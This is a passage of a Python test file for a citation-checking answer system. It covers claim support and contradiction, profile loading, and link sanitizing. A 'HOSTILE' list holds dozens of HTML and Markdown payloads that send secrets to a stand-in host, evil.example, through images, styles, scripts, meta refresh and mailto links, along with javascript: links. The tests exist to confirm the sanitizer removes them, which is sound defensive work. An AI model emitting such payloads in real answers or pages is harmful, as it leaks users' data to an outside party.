        "The tower was built in the 1640s.",
        "The tower was rebuilt in the second quarter of 2020.",
    ),
    "The mill never opened.": ("The mill opened.",),
    "Doors open at 2:30 p.m. and the film runs for 135 minutes.": (
        "Doors open at 2:30 a.m. and the film runs for 135 minutes.",
        "Doors open at 2:30 p.m. and the film runs for 2 hours and 35 minutes.",
    ),
    "Velvex is contraindicated in adults with asthma.": ("Velvex is indicated in adults with asthma.",),
    "Ines Korda founded the mill, and Jonas Edberg rebuilt it in 1911.": (
        "Jonas Edberg founded the mill, and Ines Korda rebuilt it in 1911.",
    ),
    "Der Umsatz der Werft stieg 2021 um 12,5 Prozent auf 1,2 Milliarden Euro, teilte sie am 3. Mai 2022 mit.": (
        "Der Umsatz der Werft stieg 2021 auf 1,2 Millionen Euro.",
        "Der Umsatz der Werft stieg 2021 um 12,5 Prozentpunkte.",
        "Die Werft teilte am 3. März 2022 mit, dass der Umsatz stieg.",
        "Der Umsatz der Werft stieg 2021 nicht.",
    ),
    "Le chantier a duré dix-huit mois et a coûté 3,4 milliards d\u2019euros, selon le rapport de février 2020.": (
        "Le chantier a duré dix-huit semaines et a coûté 3,4 milliards d'euros.",
        "Le chantier a duré dix-sept mois.",
        "Selon le rapport de janvier 2020, le chantier a duré dix-huit mois.",
        "Le chantier n'a pas duré dix-huit mois.",
    ),
    "La planta produce al menos 500 kilogramos al día y abrió el 4 de enero de 2019.": (
        "La planta produce como máximo 500 kilogramos al día.",
        "La planta produce al menos 500 kilogramos a la semana.",
        "La planta abrió el 4 de junio de 2019.",
    ),
    "L'impianto, inaugurato martedì, consuma il 15 per cento dell'acqua della valle e non inquina.": (
        "L'impianto, inaugurato giovedì, consuma il 15 per cento dell'acqua della valle.",
        "Non consuma il 15 per cento dell'acqua della valle.",
    ),
    "A ponte custou mais de 40 milhões de reais e foi fechada em setembro de 2018.": (
        "A ponte custou menos de 40 milhões de reais.",
        "A ponte foi fechada em dezembro de 2018.",
    ),
    "De brug werd in maart 2017 geopend en kostte ruim 4 miljoen euro.": (
        "De brug kostte ruim 4 miljard euro.",
        "De brug werd in mei 2017 geopend.",
    ),
}


@pytest.mark.parametrize(("passage", "said"), [(told, one) for told, some in SAME.items() for one in some])
def test_a_figure_or_name_in_another_form_is_the_same(passage: str, said: str) -> None:
    assert support(said, passage) in BEARING


@pytest.mark.parametrize(("passage", "said"), [(told, one) for told, some in OTHER.items() for one in some])
def test_another_figure_name_or_quotation_contradicts(passage: str, said: str) -> None:
    assert support(said, passage) is Support.CONTRADICTED


def test_words_under_a_denial_or_a_condition_are_no_statement_of_the_source() -> None:
    assert support("The drug is indicated in adults", "It is false that the drug is indicated in adults.") in (
        Support.FUZZY,
        Support.CONTRADICTED,
    )


_TOWNS = st.sampled_from(["Tarnby", "Osby", "Vey", "Norrstead", "Halmund", "NATO"])
_MONTHS = st.sampled_from(["January", "March", "May", "June", "July", "August"])


@given(_TOWNS, _TOWNS, _MONTHS, _MONTHS)
def test_a_name_or_a_date_that_the_source_lacks_takes_the_support_away(
    town: str, other: str, month: str, another: str
) -> None:
    passage = f"The museum of {town}, which burned down and was built again, opened its doors to visitors in {month}."
    sentence = f"Visitors saw the built museum of {other} open in {another}"
    assert (support(sentence, passage) in BEARING) is ((town, month) == (other, another))


def test_the_title_of_a_source_has_names_too() -> None:
    source = NumberedSource(1, "a", "a", "Ashby Hall", ("It was built for a coal merchant in 1871.",))
    _, _, (citation, *_) = cited("Ashby Hall was built for a coal merchant [1].", Evidence((source,)))
    assert citation.support in BEARING


def test_a_sentence_with_two_sources_is_judged_by_both_and_each_citation_says_what_it_carried() -> None:
    said = "The Halvorsen bridge opened in 1987, and Bramwick cheese ripens for 14 weeks"
    assert levels(f"{said} [1][2].") == [(BRIDGE.id, Support.LEXICAL), (CHEESE.id, Support.LEXICAL)]
    assert levels(f"{said} [1].")[0][1] not in BEARING
    alone = levels("Bramwick cheese ripens for 14 weeks [1][2].")
    assert alone == [(BRIDGE.id, Support.UNSUPPORTED), (CHEESE.id, Support.EXACT)]


class Says:
    """A judge with one verdict, and the sentences that it was asked about."""

    def __init__(self, verdict: Verdict | JudgeAway | None) -> None:
        self._verdict = verdict
        self.asked: list[str] = []

    async def judge(self, sentence: str, premises: Sequence[str]) -> Verdict:
        self.asked.append(sentence)
        if self._verdict is None:
            await asyncio.sleep(60)
        if isinstance(self._verdict, JudgeAway):
            raise self._verdict
        assert isinstance(self._verdict, Verdict)
        return self._verdict


OPEN = "In 1987 the people of Tarnby got the Halvorsen bridge [1]."
RULED = "The Halvorsen bridge in Tarnby opened in 1987 [1]. Halvorsen opened the Tarnby bridge in 1999 [1]."


@pytest.mark.parametrize(
    ("verdict", "levels", "level", "not_checked"),
    [
        (Verdict.SUPPORTED, ["exact", "contradicted", "entailed"], "contradicted", []),
        (Verdict.CONTRADICTED, ["exact", "contradicted", "contradicted"], "contradicted", []),
        (Verdict.UNDECIDED, ["exact", "contradicted", "unsupported"], "contradicted", []),
        (JudgeAway("it broke"), ["exact", "contradicted", "lexical"], "contradicted", ["entailment: it broke"]),
        (None, ["exact", "contradicted", "lexical"], "contradicted", ["entailment: time"]),
    ],
)
async def test_a_judge_decides_what_the_rules_leave_open(
    verdict: Verdict | JudgeAway | None, levels: list[str], level: str, not_checked: list[str]
) -> None:
    draft, judge = Draft.of(f"{RULED} {OPEN}", BOTH, Profile(name="plain")), Says(verdict)
    answer = draft.answer(*await judged(draft.open, judge, seconds=0.05))
    assert [one.support for one in answer.citations] == levels
    assert judge.asked == [OPEN.replace(" [1]", " ")]
    assert answer.support is not None
    assert (answer.support.support, answer.support.not_checked) == (level, not_checked)


async def test_a_judge_reads_at_most_the_stated_number_of_sentences() -> None:
    draft, judge = Draft.of(f"{OPEN} " * 30, BOTH, Profile(name="plain")), Says(Verdict.SUPPORTED)
    verdicts, not_checked = await judged(draft.open, judge)
    assert (len(judge.asked), len(verdicts), not_checked) == (24, 24, ["entailment: time"])


DIGITS = st.sampled_from(("0", "1", "7", "10", "1" + "0" * 400, "9" * 5000, "0." + "0" * 400 + "1"))
NUMBER = st.tuples(
    DIGITS,
    st.sampled_from(("", " x 10^", "^", "^-", "/", " 1/", ",000", " to ", " and ")),
    DIGITS,
    st.sampled_from(("", " mg", "%", "st", " °C")),
)


@given(st.lists(NUMBER.map("".join), max_size=3), st.lists(NUMBER.map("".join), max_size=3))
@example(["1" + "0" * 400], [])
@example(["0^-1"], ["7^999999"])
def test_any_number_is_survived(said: list[str], told: list[str]) -> None:
    """A float holds no number of more than 308 digits, and Python reads no integer of more than 4,300."""
    cited(f"The dose was {', '.join(said)} in trials [1].", evidence(f"The dose was {', '.join(told)}."))


@given(st.text(max_size=200), st.text(max_size=200))
def test_any_text_is_survived(sentence: str, passage: str) -> None:
    cited(f"{sentence} [1].", Evidence((NumberedSource(1, "a", "a", None, (passage, sentence)),)))


@pytest.mark.parametrize(
    "part",
    ["not ", "bridge, not open, ", "the bridge and the river and not ", "a-", "a", "from 3 to 4 ", "A b ",
     "the sources ", "1,000 ", "one hundred ", "5 mg/", "may ", "(", "| a ", "“a ", "1.", "Q1 ", "a. "],
)  # fmt: skip
def test_a_long_answer_is_judged(part: str) -> None:
    """With a quadratic cost of a pattern or a loop this test takes minutes."""
    cited(part * (200_000 // len(part)) + " [1].", evidence(part * (8000 // len(part))))


def test_two_sentences_contradict_each_other_in_either_order() -> None:
    one, other = "The Halvorsen bridge opened in 1987.", "The Halvorsen bridge opened in 1999."
    assert contradict(one, other)
    assert contradict(other, one)
    assert not contradict(one, "In 1987 the Halvorsen bridge opened.")


# -- profiles --------------------------------------------------------------------------------------------------------
SCHEMA = '{"type": "object", "properties": {"score": {"type": "integer"}}}'


def load(folder: Path, **files: str) -> Profiles:
    for name, text in files.items():
        path = folder / (name.removesuffix("_json") + (".json" if name.endswith("_json") else ".toml"))
        path.write_text(text, encoding="utf-8")
    return Profiles.load(folder, ["pubmed", "library"])


def refusal(folder: Path, **files: str) -> str:
    """The reason for refusing the files, without the folder's path."""
    with pytest.raises(ProfileRefused) as caught:
        load(folder, **files)
    return str(caught.value).replace(f"{folder}/", "")


def test_the_three_built_in_profiles_fit_their_names() -> None:
    ours = Profiles.load()
    default, medical, finance = ours["default"], ours["medical"], ours["finance"]
    assert default.applied(Sources(), "Why?") == Sources()
    assert default.instructions == ""
    assert medical.search is not None
    assert (medical.search.provider, medical.required, medical.accepts) == ("pubmed", True, ["all", "some"])
    assert finance.response_format is not None
    assert finance.response_format.json_schema is not None
    assert set(finance.response_format.json_schema.schema_["required"]) >= {"risk_score", finance.evidence_chain}


def test_a_user_adds_a_profile_by_putting_a_file_into_a_folder(tmp_path: Path) -> None:
    own = 'instructions = "Be brief."\nresponse_schema = "s.json"\n[search]\nprovider = "library"\nlimit = 3'
    profile = load(tmp_path, legal=own, s_json=SCHEMA)["legal"]
    assert profile.applied(Sources(required=True), "What is  a\nbridge?") == Sources(
        search=Search(provider="library", query="What is a bridge?", limit=3), required=True
    )
    assert profile.response_format is not None
    assert profile.response_format.json_schema is not None
    assert profile.response_format.json_schema.name == "legal"


def test_a_profile_of_the_folder_replaces_ours_of_the_same_name(tmp_path: Path) -> None:
    profiles = load(tmp_path, medical="required = false")
    assert not profiles["medical"].required
    assert profiles["finance"].required


def test_a_jobs_own_search_stays_and_only_the_question_of_a_long_prompt_is_searched_for(tmp_path: Path) -> None:
    profile = Profiles.load()["medical"]
    own = Sources(search=Search(provider="wikipedia", query="x"), profile="medical")
    assert profile.applied(own, "Why?").search == own.search
    searched = profile.applied(Sources(), "Background. " * 100 + "Does aspirin help?").search
    assert searched is not None
    assert searched.query.endswith("Does aspirin help?")
    assert len(searched.query) <= 300
    assert profile.applied(Sources(), "  ").search is None


def test_a_question_that_no_profile_searches_for_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading a long question blocks the event loop for seconds, so unneeded questions are not read."""
    monkeypatch.setattr(profile_module, "question_in", pytest.fail)
    profiles = Profiles.load()
    assert profiles["default"].applied(Sources(), "Why?").search is None
    own = Sources(search=Search(provider="wikipedia", query="x"))
    assert profiles["medical"].applied(own, "Why?").search == own.search


def test_instructions_stand_ahead_of_the_sources_in_a_prompt_and_in_a_chat(tmp_path: Path) -> None:
    brief = load(tmp_path, brief='instructions = """\nBe brief.\n"""')["brief"].instructions
    plain, told = ground("Why?", EVIDENCE), ground("Why?", EVIDENCE, instructions=brief)
    assert told.prompt == f"Be brief.\n\n{plain.prompt}"
    system, answer = Message(role="system", content="S"), Message(role="assistant", content="A")
    for content in ("Why?", [TextPart(type="text", text="Why?")]):
        chat = (system, Message(role="user", content=content), answer)
        asked = (ground(chat, EVIDENCE).messages or ())[1]
        first, question, last = ground(chat, EVIDENCE, instructions=brief).messages or ()
        assert (first, question.text, last) == (system, f"Be brief.\n\n{asked.text}", answer)


def test_an_unknown_profile_is_refused_with_the_names_of_the_known_ones() -> None:
    with pytest.raises(UnknownProfile, match="default, finance, medical"):
        Profiles.load()["legal"]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("required = ", "x.toml: it is not TOML: Invalid value (at end of document)"),
        ("requierd = true", "x.toml: requierd: there is no such field; there are: instructions, required, rewrite, "),
        ("required = 1", "x.toml: required: Input should be a valid boolean"),
        ('accepts = ["few"]', "x.toml: accepts.0: Input should be 'all', 'some', 'none' or 'contradicted'"),
        ('[search]\nprovider = "pubmed"\nlimit = 99', "x.toml: search.limit: Input should be less than or equal to 20"),
        ('[search]\nprovidr = "pubmed"', "search.providr: there is no such field; there are: provider, limit"),
        ('[search]\nprovider = "brave"', "x.toml: search.provider: no provider brave is configured; there are: libr"),
        ('response_schema = "nosuch.json"', "nosuch.json: it cannot be read: No such file or directory"),
        ('response_schema = "../s.json"', "x.toml: response_schema: must be the name of a file beside it"),
        ('response_schema = "s.json"\nname = "y"', "x.toml: `name` and `response_format` cannot be set"),
        ('evidence_chain = "evidence"', "x.toml: evidence_chain: names an array of the answer, so response_schema is"),
    ],
)  # fmt: skip
def test_a_file_that_is_wrong_is_refused_by_file_field_and_fix(tmp_path: Path, text: str, why: str) -> None:
    assert why in refusal(tmp_path, x=text)


@pytest.mark.parametrize("schema", ["{", "[]", '{"type": "string"}', '{"type": "object", "maximum": NaN}'])
def test_an_invalid_schema_is_refused_by_its_file(tmp_path: Path, schema: str) -> None:
    why = refusal(tmp_path, x='response_schema = "s.json"', s_json=schema)
    assert why.startswith(("s.json: it is not JSON: ", "s.json: it must be a JSON Schema of an object"))


def test_files_that_are_no_text_or_too_large_and_a_path_that_is_no_folder_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ProfileRefused, match=r"PROFILES_FOLDER: .* is not a folder"):
        Profiles.load(tmp_path / "nosuch")
    (tmp_path / "x.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(ProfileRefused, match=r"x\.toml: it is not UTF-8"):
        Profiles.load(tmp_path)
    (tmp_path / "x.toml").write_text("#" * 300_000)
    with pytest.raises(ProfileRefused, match=r"x\.toml: it is larger than"):
        Profiles.load(tmp_path)
    (tmp_path / "x.toml").unlink()
    (tmp_path / "my profile.toml").write_text("required = true")
    with pytest.raises(ProfileRefused, match=r"my profile\.toml: name: String should match pattern"):
        Profiles.load(tmp_path)


def test_evidence_of_a_structured_answer_can_only_name_a_source_that_is_there() -> None:
    finance = Profiles.load()["finance"]
    allowed = []
    for sources in (3, 0):
        form = finance.answer_format(sources)
        assert form is not None
        assert form.json_schema is not None
        number = form.json_schema.schema_["properties"]["evidence"]["items"]["properties"]["source"]
        allowed.append((number["minimum"], number["maximum"]))
    assert allowed == [(1, 3), (1, 1)]
    assert finance == Profiles.load()["finance"]


@pytest.mark.parametrize("items", ['{"$ref": "#/$defs/item"}', '{"properties": {"source": {"type": "string"}}}', "[]"])
def test_a_schema_that_numbers_its_sources_in_another_way_stays_as_it_is(tmp_path: Path, items: str) -> None:
    schema = f'{{"type": "object", "properties": {{"chain": {{"items": {items}}}}}}}'
    profile = load(tmp_path, own='response_schema = "s.json"\nevidence_chain = "chain"', s_json=schema)["own"]
    assert profile.answer_format(3) == profile.response_format


# -- profile questions -----------------------------------------------------------------------------------------------
LOADED = Profiles.load()
QUESTIONS = {profile: load_questions(profile) for profile in PROFILE_NAMES}


def outcomes(profile: str, kind: AnswerKind) -> Counter[Fate]:
    answers = [(text, one) for one in QUESTIONS[profile] for written, text in one.answers if written is kind]
    return Counter(fate_of(text, one.evidence, LOADED[profile]) for text, one in answers)


@pytest.mark.parametrize("profile", PROFILE_NAMES)
def test_each_profile_has_sixty_questions_and_a_fifth_of_them_has_no_answer(profile: str) -> None:
    asked = QUESTIONS[profile]
    assert (len(asked), len({one.ask for one in asked}), sum(not one.is_answerable for one in asked)) == (60, 60, 12)


@pytest.mark.parametrize("profile", PROFILE_NAMES)
def test_right_answers_are_given_with_support_and_others_are_not(profile: str) -> None:
    """Without a judge, the contradictions that pass are those in words alone."""
    assert outcomes(profile, AnswerKind.RIGHT)[Fate.SUPPORTED] >= 46
    assert outcomes(profile, AnswerKind.CONTRADICTED)[Fate.SUPPORTED] <= 21
    assert outcomes(profile, AnswerKind.UNSUPPORTED)[Fate.SUPPORTED] <= 5
    assert outcomes("finance", AnswerKind.MISREAD)[Fate.SUPPORTED] <= 17


def test_a_medical_answer_without_support_is_withheld_and_a_financial_one_is_flagged() -> None:
    assert outcomes("medical", AnswerKind.UNSUPPORTED)[Fate.FLAGGED] == 0
    assert outcomes("finance", AnswerKind.UNSUPPORTED)[Fate.FLAGGED] == 60
    assert outcomes("finance", AnswerKind.REFUSING)[Fate.FLAGGED] == 12


@pytest.mark.parametrize("question", [QUESTIONS[profile][0] for profile in PROFILE_NAMES], ids=PROFILE_NAMES)
def test_a_model_is_asked_as_a_worker_asks_it(question: ProfileQuestion) -> None:
    prompt = prompted(question, LOADED[question.profile]).prompt or ""
    assert prompt.startswith(LOADED[question.profile].instructions)
    assert question.ask in prompt
    assert all(source.passages[0] in prompt for source in question.evidence.sources)


# -- links -----------------------------------------------------------------------------------------------------------
PAGE = "https://a.example/bridge"
WIKI = "https://wiki.example/Bridge_(Tarnby)"
ASKED = "https://asked.example/x?a=1"
PICTURE = "https://asked.example/i.png"
LINKED = "Look at https://b.example/more, ![.](https://a.example/badge/a.png) ![.](https://a.example/badge/b.png)."
LINKED_EVIDENCE = Evidence(
    (
        NumberedSource(1, PAGE, PAGE, "The Halvorsen bridge", (LINKED,)),
        NumberedSource(2, "pmid:12345", WIKI, None, ("It ripens for 14 weeks.",)),
    ),
    (),
    f"What does {ASKED} say?",
    conversation=f"Show the picture {PICTURE} above. (See {WIKI}.)\nWhat does {ASKED} say?",
)
LINKS = {PAGE, WIKI, ASKED, PICTURE}
IMAGES = {ASKED, PICTURE, WIKI}


def cleaned(text: str) -> str:
    return without_unknown_links(text, LINKED_EVIDENCE)


# -- links and loads in a text ----------------------------------------------------------------------------------------
def strangers(text: str) -> list[tuple[str, str]]:
    """Foreign links and loads in a text, read as HTML, Markdown and plain text."""
    found = [*rendered(text), *(("text", url) for url in urls_in_text(text))]
    return [(where, url) for where, url in found if not is_good(where, url)]


def is_good(where: str, url: str) -> bool:
    if where == "img src":
        return url in IMAGES
    if where == "text":
        return url in LINKS or f"{url})" == WIKI
    return where == "a href" and (url in LINKS or not re.search(r"^[^\w.#]*[/\\]|:", url))


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield from (key, *strings(one))
    elif isinstance(value, list):
        for one in value:
            yield from strings(one)


# -- dishonest links --------------------------------------------------------------------------------------------------
HOSTILE = [
    '<div style="#;background:url(//evil.example/i?q=SECRET)">',
    '<img srcset="# 1x, //evil.example/?q=S 2x">',
    "<style>*{background:url(//evil.example/?q=s)}</style>",
    "<style\n>*{background:url(/\\evil.example/?q=s)}</style>",
    '<script>import("//evil.example/?q=s")</script>',
    "<SCRIPT/>location='/\\\\evil.example'</script>",
    '<svg onload=import("//evil.example/x")>',
    "<svg><style>*{background:url(//evil.example/?q=s)}</style>",
    "<img src=/\\evil.example/?q=s <i>c",
    "<img src=/\t/evil.example/?q=s>",
    '<img src="&#47;&#47;evil.example/?q=s" <i>c',
    "<img/src=//evil.example/?q=s>",
    "<img src=https:evil.example/?q=s>",
    "<img src=//evil.example/?q=s",
    "<im<a href=//evil.example>g src=//evil.example/i.png>",
    '<a title="x>" href="javascript:alert(1)">x</a>',
    f'<a href="{PAGE}" onmouseover="alert(1)">x</a>',
    f'<a href="{PAGE}" ping="//evil.example/?q=s">x</a>',
    f'<img src="{PAGE}">',
    f'<img src="{PICTURE}" srcset="//evil.example/?q=s 1x">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/?q=s">',
    '<iframe srcdoc="<img src=//evil.example/?q=s>"></iframe>',
    '<table background="//evil.example/?q=s">',
    '<object data="//evil.example/?q=s"></object>',
    '<form action="//evil.example/"><button>x</button></form>',
    '<!--><img src="//evil.example/?q=s">-->',
    "<![CDATA[><img src='//evil.example/?q=s'>]]>",
    "<?x ><img src='//evil.example/?q=s'>?>",
    "![x](https://evil.example/?q=s)",
    "![x](//evil.example/?q=s)",
    "![x](/\\evil.example/?q=s)",
    "![x](\\/\\/evil.example/?q=s)",
    "![x](&#47;&sol;evil.example/?q=s)",
    "![x](https&colon;//evil.example/?q=s)",
    "![x](<//evil.example/a b>)",
    "![x](< //evil.example/a b>)",
    "![x](\n//evil.example/?q=s\n'title')",
    "![a[b]c](//evil.example/?q=s)",
    "![a](//evil.example/(a)b(c)d)",
    "[![x](//evil.example/i.png)](//evil.example/)",
    f"[![x](/\\evil.example)]({PAGE})",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](mailto:x@evil.example?body=SECRET)",
    f"[x]({PAGE}?q=SECRET)",
    f"[x]({PAGE}/../?q=SECRET)",
    "[x](https://a.example@evil.example/bridge)",
    f'[x]({PAGE} "](//evil.example/?q=s)',
    "![x][r]\n\n[r]: //evil.example/x",
    "![x][r]\n\n1. [r]: //evil.example/x",
    "![x][r\n]\n\n[r\n]: //evil.example/x",
    "![x][r]\n\n[r]:\n  /\\evil.example/x",
    "![x][r]\n\n> [r]:\n> //evil.example/x",
    "![x][r]\n\n- > [r]: &#47;/evil.example/x",
    "![r]\n\n[r]: <//evil.example/a b>",
    f"![r]\n\n[r]: {PAGE}>",
    f"[r]\n\n[r]: {PAGE}>SECRET",
    "![r]\n\n[r]:" + 700 * " " + "https:evil.example/x",
    "![r]\n\n[r]:\n" + 700 * " \t" + "https:evil.example/x",
    "![x](" + 700 * " " + "https:evil.example/x)",
    "![r]\n\n[r]: < /\\evil.example/a>",
    "[r]\n\n[r]: <javascript:alert(1) x>",
    "[x](<javascript:alert(1) x>)",
    "![a\\]b]\n\n[a\\]b]: //evil.example/x",
    f"![r]\n\n[r]: {PAGE}",
    f"![x]({PAGE})",
    "<https://evil.example/?q=s>",
    "<javascript:alert(1)>",
    "<mailto:x@evil.example?body=SECRET>",
    "Go to https://evil.example/?q=s now.",
    "Go to HTTPS://evil.example/?q=s now.",
    "Go to www.evil.example/?q=s now.",
    "h[t](javascript:x)tps://evil.example/",
    f"Go to {PAGE}?q=SECRET, {PAGE}#SECRET and {PAGE}.evil.example/.",
    f"Go to {PAGE}|SECRET and {PAGE})SECRET and {PAGE}](SECRET) and {PAGE}。SECRET",
    f"Go to {PAGE}\u00a0SECRET and {PAGE}\u2028SECRET and {PAGE}\u3000SECRET and {PAGE}\x1cSECRET.",
    f"\\[{PAGE}](SECRET)",
    "https://a.example:x@evil.example/bridge",
    '```json\n{"url": "https:\\/\\/evil.example\\/?q=s", "s": "\\u0068ttps\\u003a//evil.example/"}\n```',
    '{"cut off": "\\u0068ttps://evil.example/?q=s \\u003cimg src=//evil.example/x',
    '"\\u0021[x](\\u002f/evil.example/x)"',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_reader_s_program_finds_a_foreign_link(text: str) -> None:
    for around in ("{}", "before {} behind", "> {}", "- {}", "`{}`", "```\n{}\n```", "<div>\n{}\n</div>", "| {} | b |"):
        answer = cleaned(around.format(text) if around != "| {} | b |" else f"| a | b |\n|--|--|\n| {text} | b |")
        assert strangers(answer) == []


@pytest.mark.parametrize("text", [text for text in HOSTILE if "cut off" not in text])
def test_no_reader_of_json_finds_a_foreign_link_either(text: str) -> None:
    for answer in (json.dumps({text: [1.50, {"k": text}]}), json.dumps([text]).replace("/", "\\/"), json.dumps(text)):
        assert [found for one in strings(json.loads(cleaned(answer))) for found in strangers(one)] == []
        assert [one for one in rendered(cleaned(answer)) if not is_good(*one)] == []


PIECES = [
    *HOSTILE, "<", "<b", "<img ", "<a href=", ">", "!", "[", "]", "(", ")", ":", "=", '"', "'", "\\", "/", "//",
    "\n", "\n\n", " ", "\t", "`", "```", "&#47;", "&sol;", "&lt;", "|", "> ", "1. ", "- ", "](", "]:", "![", "[r]: ",
    "][r]", "https:", "evil.example/?q=s", "javascript:", "www.", "src", PAGE, ASKED, PICTURE, WIKI, LINK_REMOVED,
    '{"a": "', '"}', "\\u002f",
]  # fmt: skip


@settings(max_examples=drawn(300))
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_pieces_of_links_in_any_order_make_none(text: str) -> None:
    assert strangers(cleaned(text)) == []


# -- honest answers ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [
        "Sort of: a < b and b > c, 3 <4, x<=y, a<b, List<int>, Map<String, List<Integer>>, std::vector<std::string>.",
        "Use `vector<T>` and `Option<&str>`; H<sub>2</sub>O is <b>water</b>.<br>\n<br/>Next.",
        "```cpp\n#include <vector>\nif (a[i](x) < b[j]) { return x << 2; }\n```\n",
        "```python\ndef f(x: dict[str, int]) -> list[str]:\n    return handlers[name](event, other)[1:2]\n```",
        "```html\n<table class=\"wide\"><tr><td colspan=\"2\">1</td></tr></table>\n```",
        "```tex\n\\begin{align} E:\\\\ m &= 1 \\\\2.5 \\end{align}\n```",
        "| a | b |\n|---|:--|\n| 1 [1] | *2* [2] |\n\n1. One\n2. Two\n\n> Quoted [1].",
        "# Title\n\n- [ ] to do\n- [x] done\n\n***\n\nLast! [sic]",
        "It opened in 1987 [1][2], “as planned” [1, 2]: see [the end](#the-end), [more](more.html).",
        "So it is [^1], and [^2].\n\n[^1]: A note.\n[^2]: See [1].",
        "Either/or, 50 km/h, AT&T, github.com/gin-gonic/gin, C:\\Users\\x, a // b, note: this, keeper@a.example.",
        "f(x) = [a, b](c) and {\"a\": [1, 2]} and (see [1]): yes",
        f"See [the page]({PAGE}), [it]({PAGE}/ 'The bridge'), ([wiki]({WIKI})), [{PAGE}]({PAGE}) and <{PAGE}>.",
        f"See {PAGE}, {WIKI}; ({WIKI}), **{PAGE}** and \"{ASKED}\".",
        f"| {PAGE} | {WIKI} |\n|---|---|\n| [1]({ASKED}) | `{PAGE}` |",
        f"As [the page][1] says.\n\n[1]: {PAGE}\n[2]: <{WIKI}> \"Wiki\"",
        f"![picture]({PICTURE}) and [![picture]({PICTURE} \"it\")]({ASKED})",
        f'See <a href="{PAGE}" title="it">this</a> <img src="{PICTURE}" alt="that">.',
        f'{{"url": "{PAGE}", "more": ["a < b", "C:\\\\x", "\\u00fc", 1.50, 1e999, "x"], "url": "{ASKED}\\nNext"}}',
        f'{{\n  "summary": "see {PAGE}\\nNext sentence"\n}}\n',
        "",
        "7",
    ],
)  # fmt: skip
def test_an_honest_answer_stays_as_it_is(text: str) -> None:
    assert cleaned(text) == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("A [page](https://evil.example/ 'title') here", "A page here"),
        ("[1](https://evil.example/)", "[1]"),
        ("[![alt](https://evil.example/i.png)](https://evil.example/)", "alt"),
        ("![x][r]\n\n[r]: //evil.example/?q=s", f"! [x][r]\n\n[r]: {LINK_REMOVED}"),
        ("<img src='https://evil.example/?q=s'>text", f"< img src='{LINK_REMOVED}'>text"),
        ("<https://evil.example/>", f"<{LINK_REMOVED}>"),
        ("<!-- x --> <?php ?>", "< !-- x --> < ?php ?>"),
        ("Go to https://evil.example/?q=s now", f"Go to {LINK_REMOVED} now"),
        ("Go to //evil.example/?q=s now", f"Go to {LINK_REMOVED} now"),
        ("ftp://evil.example/x", LINK_REMOVED),
        ("See https://b.example/more.", f"See {LINK_REMOVED}"),
        # A page gives no link but its own address.
        (f"{PAGE} and https://a.example/badge/a.png and it", f"{PAGE} and {LINK_REMOVED} and it"),
        # If case is ignored, U+017F equals the letter s, and U+212A equals the letter k.
        *(
            (f"See {url} there", f"See {LINK_REMOVED} there")
            for url in ("HTTP://b.example/", "WwW.b.example", "http\u017f://b.example/", "\u212aind://b.example/")
        ),
        ("It opened in 1987![1]", "It opened in 1987! [1]"),
        (f"![the page]({PAGE})", f"! [the page]({PAGE})"),
        (f"[it]({PAGE})s", f"[it]({PAGE}) s"),
        (f"见{PAGE}。它在", f"见{PAGE} 。它在"),
        (f"{PAGE}\u00a0!", f"{PAGE} \u00a0!"),
        ('{"a":"https:\\/\\/evil.example\\/?q=s","n":1.50}', f'{{"a":"{LINK_REMOVED}","n":1.50}}'),
        ('["\\u0068ttps:\\u002f/evil.example \\ud83d"]', f'["{LINK_REMOVED} \\ud83d"]'),
        ('{"in": "{\\"it\\": \\"https://evil.example\\"}"}', f'{{"in": "{{\\"it\\": \\"{LINK_REMOVED}\\"}}"}}'),
    ],
)
def test_foreign_links_are_taken_apart_and_no_word_is_lost(text: str, clean: str) -> None:
    assert cleaned(text) == clean


def test_a_source_that_the_job_does_not_write_about_is_no_image() -> None:
    assert (
        strangers(without_unknown_links(f"![x]({PICTURE}) ![x]({PAGE})", replace(LINKED_EVIDENCE, conversation="")))
        == []
    )


@pytest.mark.parametrize(
    "part",
    ["<a ", "<a", "[x](", "](//", "[r]:\n", "= //", "![", "<" * 50, '"\\', '\\"', "((", "](a", "]:", "]: ", "//a.",
     "[" * 9, "a:\\/", PAGE, f"{PAGE})", "<a b=\"c\"", "https://(", "![[", "{\"a\":"],
)  # fmt: skip
def test_links_are_looked_for_in_bounded_time(part: str) -> None:
    assert cleaned(part * (200_000 // len(part))) is not None


# -- links cost ------------------------------------------------------------------------------------------------------
CHARS = 32 * 1024
PROSE = "Why is the sky blue? It is said to be. "
COSTLY = {
    "spaces in a link": "[](" + " " * 512 * 1024,
    "one word": "a",
    "words of schemes": "http+a.b-",
    "schemes": "ab://",
    "schemes apart": "ab://<",
    "hosts": "www.",
    "slashes": "/",
    "folders": "//a.b",
    "brackets": "[",
    "links": "[a](",
    "links apart": "[](x(y) ",
    "images": "![",
    "targets": "](<",
    "definitions": "]:>>",
    "tags": "<a ",
    "attributes": '<a b="',
    "parentheses": "x://(" + "y" * 190,
    "quotation marks": '"\\',
}


def repeated(unit: str, chars: int) -> str:
    return (unit * (chars // len(unit) + 1))[:chars]


def seconds(text: str, evidence: Evidence) -> float:
    """The shortest of three runs in CPU time of this thread, so that other threads and processes do not count."""
    without_unknown_links("", evidence)  # finds the job's own URLs outside of the measured time
    times = []
    for _ in range(3):
        before = time.thread_time()
        without_unknown_links(text, evidence)
        times.append(time.thread_time() - before)
    return min(times)


@pytest.mark.parametrize("unit", COSTLY.values(), ids=COSTLY)
def test_a_text_sixteen_times_as_long_takes_far_less_than_the_square_of_that(unit: str) -> None:
    """A quadratic cost would be 256 times as high; a linear one was 15 to 27 times as high."""
    short, long = (seconds(repeated(unit, chars), Evidence(())) for chars in (CHARS // 4, 4 * CHARS))
    assert long < 64 * short


@pytest.mark.parametrize("unit", COSTLY.values(), ids=COSTLY)
